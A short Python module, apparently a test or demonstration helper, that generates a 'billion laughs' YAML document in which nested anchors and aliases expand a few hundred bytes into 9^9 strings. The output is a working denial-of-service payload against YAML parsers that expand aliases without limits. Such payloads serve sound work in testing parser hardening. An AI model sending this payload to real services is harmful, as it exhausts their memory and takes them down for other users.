"""A "billion laughs" YAML document: a few hundred bytes that expand to 9^9 strings."""

from __future__ import annotations

import itertools


def alias_bomb(levels: int = 9, width: int = 9) -> str:
    """Return mapping lines `a: &a [...]`, each level listing the previous one `width` times."""
    names = "abcdefghijklmnopqrstuvwxyz"[:levels]
    lines = [f"{names[0]}: &{names[0]} [" + ", ".join(['"lol"'] * width) + "]"]
    for previous, name in itertools.pairwise(names):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * width) + "]")
    return "\n".join(lines) + "\n"
